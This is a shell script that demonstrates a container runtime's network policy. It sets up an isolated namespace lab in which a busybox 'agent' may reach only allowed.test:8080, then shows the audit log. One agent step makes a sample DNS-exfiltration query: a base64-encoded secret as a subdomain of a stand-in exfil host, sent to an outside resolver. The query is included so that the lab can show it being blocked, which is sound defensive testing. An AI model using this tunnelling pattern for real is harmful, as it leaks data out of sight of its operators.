#!/bin/sh
# net-demo.sh — mxc's network policy at work on a real container.
#
# A little internet of its own (network namespaces made here, documentation
# addresses only): a web server on every address, a DNS server that knows
# allowed.test (203.0.113.10) and denied.test (203.0.113.20). An "agent"
# (a busybox shell) runs under a policy that lets it reach allowed.test on
# port 8080 and nothing else. It reaches it by name, is refused denied.test
# (the DNS gate answers REFUSED and never asks upstream) and the direct
# address of the denied host (reset at once), and
# `mxc-runtime events --audit` shows what was recorded.
#
# mxc-runtime runs inside the little internet's "host" namespace, so the
# DNS gate (which lives in the runtime's namespace) reaches the demo's
# resolver and nothing else; the container's interface is plugged in by a
# createRuntime hook, as docker's libnetwork does. Nothing here touches an
# address or interface outside the namespaces it made.
#
# Needs root, bin/mxc-runtime (make build), busybox-static, iproute2,
# nsenter and go. Everything it makes (namespaces, veths, servers, bundle,
# state root, container) is removed on exit.
set -eu

REPO=$(cd "$(dirname "$0")/.." && pwd)
MXC=${MXC_RUNTIME:-$REPO/bin/mxc-runtime}
BUSYBOX=${BUSYBOX:-/bin/busybox}
ID=mxc-net-demo-$$

[ "$(id -u)" = 0 ] || { echo "net-demo: needs root" >&2; exit 1; }
[ -x "$MXC" ] || { echo "net-demo: $MXC missing (make build)" >&2; exit 1; }
[ -x "$BUSYBOX" ] || { echo "net-demo: $BUSYBOX missing (apt install busybox-static)" >&2; exit 1; }
for t in ip nsenter go; do
	command -v $t >/dev/null 2>&1 || { echo "net-demo: needs $t" >&2; exit 1; }
done

WORK=$(mktemp -d /tmp/mxc-net-demo.XXXXXX)
ROOT=$(mktemp -d /run/mxc-net-demo.XXXXXX)
LAB_PID=
HOSTNS=
cleanup() {
	if [ -n "$HOSTNS" ]; then
		nsenter --net="/run/netns/$HOSTNS" "$MXC" --root "$ROOT" delete --force "$ID" >/dev/null 2>&1 || true
	fi
	if [ -n "$LAB_PID" ]; then
		# The lab removes its namespaces (and the veth ends in them).
		kill -TERM "$LAB_PID" 2>/dev/null || true
		wait "$LAB_PID" 2>/dev/null || true
	fi
	rm -rf "$WORK" "$ROOT"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# The little internet (demo/netlab: the egress tests' lab as a process).
(cd "$REPO" && go build -o "$WORK/netlab" ./demo/netlab)
"$WORK/netlab" -ready "$WORK/lab.json" &
LAB_PID=$!
i=0
while [ ! -s "$WORK/lab.json" ]; do
	kill -0 "$LAB_PID" 2>/dev/null || { echo "net-demo: the lab failed to start" >&2; exit 1; }
	i=$((i + 1)); [ $i -lt 300 ] || { echo "net-demo: the lab did not start" >&2; exit 1; }
	sleep 0.1
done
field() { sed -n "s/.*\"$1\":\"\([^\"]*\)\".*/\1/p" "$WORK/lab.json"; }
INET=$(field inet)
HOSTNS=$(field host)
PREFIX=$(field prefix)
RESOLVER=$(field resolver)

# A busybox root filesystem; its resolv.conf names the demo's resolver
# (any address would do: the gate catches every DNS packet).
R=$WORK/bundle/rootfs
mkdir -p "$R/bin" "$R/etc" "$R/tmp" "$R/proc" "$R/sys" "$R/dev"
cp "$BUSYBOX" "$R/bin/busybox"
for a in $("$BUSYBOX" --list); do [ -e "$R/bin/$a" ] || ln "$R/bin/busybox" "$R/bin/$a"; done
printf 'root:x:0:0:root:/root:/bin/sh\n' >"$R/etc/passwd"
printf 'nameserver %s\n' "$RESOLVER" >"$R/etc/resolv.conf"
chmod 1777 "$R/tmp"

# The agent's script: each step says what it tries.
cat >"$R/agent.sh" <<'AGENT'
step() { printf '\n$ %s\n' "$*"; sh -c "$*" 2>&1 || echo "  -> refused (exit $?)"; }
step 'nslookup allowed.test'
step 'get allowed.test'
step 'nslookup denied.test'
step 'get denied.test'
step 'get 203.0.113.20'
step 'nslookup secret-c2VjcmV0.exfil.test 198.51.100.53'
AGENT

# get HOST: GET http://HOST:8080/ (busybox's wget crashes in a rootfs
# without NSS files; nc does the job).
cat >"$R/bin/get" <<'GET'
#!/bin/sh
set -o pipefail
printf 'GET / HTTP/1.0\r\nHost: %s\r\n\r\n' "$1" | nc -w 3 "$1" 8080 | tail -n 1
GET
chmod 755 "$R/bin/get"

# The hook that plugs the container into the little internet once mxc
# made its network namespace: a veth pair created in the internet with
# one end in the container (pid from the OCI state on stdin).
cat >"$WORK/plug.sh" <<PLUG
#!/bin/sh
set -e
pid=\$(sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
ip -n $INET link add ${PREFIX}ai1 type veth peer name ${PREFIX}a1 netns "\$pid"
ip -n $INET addr add 192.0.2.6/30 dev ${PREFIX}ai1
ip -n $INET link set ${PREFIX}ai1 up
nsenter --net=/proc/\$pid/ns/net ip addr add 192.0.2.5/30 dev ${PREFIX}a1
nsenter --net=/proc/\$pid/ns/net ip link set ${PREFIX}a1 up
nsenter --net=/proc/\$pid/ns/net ip route add default via 192.0.2.6
PLUG
chmod 755 "$WORK/plug.sh"

# The policy travels in the io.mxc.policy annotation (JSON in a string).
POLICY='{"apiVersion":"mxc.dev/v1alpha1","kind":"AgentPolicy","identity":{"agent":"net-demo-agent"},"network":{"egress":{"default":"deny","allow":[{"to":[{"host":"allowed.test"}],"ports":[{"protocol":"tcp","port":8080}]}]},"ingress":{"default":"deny"}}}'
ANN=$(printf '%s' "$POLICY" | sed 's/"/\\"/g')
cat >"$WORK/bundle/config.json" <<JSON
{
  "ociVersion": "1.2.0",
  "annotations": {"io.mxc.policy": "$ANN"},
  "process": {
    "terminal": false,
    "user": {"uid": 0, "gid": 0},
    "args": ["sh", "/agent.sh"],
    "env": ["PATH=/bin"],
    "cwd": "/",
    "capabilities": {
      "bounding": ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"],
      "effective": ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"],
      "permitted": ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"]
    },
    "noNewPrivileges": true
  },
  "root": {"path": "rootfs", "readonly": false},
  "hostname": "agent",
  "hooks": {"createRuntime": [{"path": "$WORK/plug.sh"}]},
  "mounts": [
    {"destination": "/proc", "type": "proc", "source": "proc"},
    {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "strictatime", "mode=755", "size=65536k"]},
    {"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"]}
  ],
  "linux": {
    "namespaces": [{"type": "pid"}, {"type": "network"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}, {"type": "cgroup"}],
    "maskedPaths": ["/proc/kcore", "/proc/keys", "/sys/firmware"],
    "readonlyPaths": ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"]
  }
}
JSON

# The node config: the gate's upstream is the demo's resolver.
printf 'dns:\n  upstreams: ["%s:53"]\n' "$RESOLVER" >"$WORK/node.yaml"
mxc() { nsenter --net="/run/netns/$HOSTNS" "$MXC" --root "$ROOT" --config "$WORK/node.yaml" "$@"; }

echo "== the little internet: namespaces $INET (servers, resolver $RESOLVER) and $HOSTNS (runs mxc-runtime)"
echo "== the policy (io.mxc.policy)"
printf '%s\n' "$POLICY" | sed 's/,"/,\n  "/g'
echo
echo "== the agent runs (mxc-runtime run)"
status=0
mxc run --keep --bundle "$WORK/bundle" "$ID" || status=$?
echo
echo "(agent exited with status $status)"
echo
echo "== audit events (mxc-runtime events --audit $ID)"
mxc events --audit --no-follow "$ID"
echo
echo "(dns.deny: the gate refused the name and never forwarded it, so its labels never"
echo " left the host; net.deny: the kernel's table reset the connection, logged by nflog.)"
